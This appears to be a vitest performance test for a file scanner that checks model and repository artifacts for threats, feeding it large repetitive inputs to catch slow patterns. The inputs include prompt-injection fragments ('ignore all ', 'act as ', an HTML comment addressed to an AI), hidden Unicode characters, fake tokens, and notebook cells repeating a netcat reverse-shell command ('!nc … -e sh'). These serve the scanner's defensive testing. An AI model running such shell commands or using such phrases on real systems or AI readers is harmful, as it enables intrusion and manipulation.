import { expect, test } from 'vitest';
import { scanBytes } from './fixtures/scan';
import { DEFAULT_LIMITS } from './limits';

/** Texts that make careless patterns take minutes. */
const SIZE = 1 << 17;
const PIECES = [
  '<a',
  '<script ',
  '<img style="',
  '{{',
  '{%',
  '{"',
  '{"a":[',
  'a.',
  'a@',
  'javascript:',
  'http://1.2.3.4/',
  '\n',
  ' ',
  ',   ',
  '=',
  "'",
  '\u202E',
  '\u{E0041}',
  '\u200B',
  'ignore all ',
  'send token at via in ',
  '<!-- ai: ',
  'act as ',
  'you have ',
  'without any ',
  '4111 ',
  'DE12 ',
  'AKIA',
  'import a,',
  'from a import ',
  'a=[',
  '_target_: ',
  '---\n',
  'c',
  '(',
  'cos\n',
  'Pab',
  'a()',
  'f(',
  'from a import (b,',
  '"=call(\n',
  "=|'",
  "S'",
];

test.each(PIECES)('128 KiB of %j are scanned in a moment', async (piece) => {
  const bytes = Buffer.from(piece.repeat(Math.ceil(SIZE / piece.length))).subarray(0, SIZE);
  const limits = { ...DEFAULT_LIMITS, artifactMs: 500 };
  for (const name of ['a.md', 'a.csv', 'm/modeling_a.py', 'a.yaml', 'pyproject.toml', 'm.h5']) {
    const content = name === 'm.h5' ? Buffer.concat([Buffer.from('\x89HDF\r\n\x1a\n', 'latin1'), bytes]) : bytes;
    const before = process.cpuUsage();
    await scanBytes(name, content, { limits });
    const { user, system } = process.cpuUsage(before);
    expect((user + system) / 1000).toBeLessThan(3_000);
  }
});

const many = (count: number, piece: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => piece(index)).join('');
const notebook = (source: string): string => JSON.stringify({ nbformat: 4, cells: [{ cell_type: 'code', source }] });

/** Small files that took from ten seconds to minutes. */
const SLOW: readonly (readonly [string, string, () => string])[] = [
  ['shell magics', 'a.ipynb', () => notebook(many(60_000, (index) => `!a${index}\n`))],
  ['dangerous shell magics', 'a.ipynb', () => notebook(many(20_000, (index) => `!nc ${index} -e sh\n`))],
  [
    'dependencies',
    'package.json',
    () => `{"dependencies":{${many(48_000, (index) => `"pkg${index}":"1",\n`)}"z":"1"}}`,
  ],
  ['downloads', 'mcp.json', () => JSON.stringify({ mcpServers: { a: { args: ['curl '.repeat(200_000)] } } })],
  [
    'tokens',
    'a.txt',
    () =>
      many(
        30_000,
        (index) =>
          `hf_${String(index)
            .replaceAll(/\d/g, (n) => 'abcdefghij'[Number(n)]!)
            .padEnd(34, 'x')}\n`,
      ),
  ],
  ['a version', 'requirements.txt', () => `numpy==1${'a'.repeat(60)}!\n`],
  ['clauses of a range', 'requirements.txt', () => `ultralytics${'>=8,'.repeat(500_000)}`],
  [
    'beginnings of scripts',
    'a.ipynb',
    () =>
      JSON.stringify({ nbformat: 4, cells: [{ outputs: [{ data: { 'text/html': '<script>'.repeat(200_000) } }] }] }),
  ],
];

test.each(SLOW)('many %s in %s are scanned in a few seconds', async (_kind, name, build) => {
  const bytes = Buffer.from(build());
  const before = process.cpuUsage();
  await scanBytes(name, bytes);
  const { user, system } = process.cpuUsage(before);
  expect((user + system) / 1000).toBeLessThan(5_000);
});
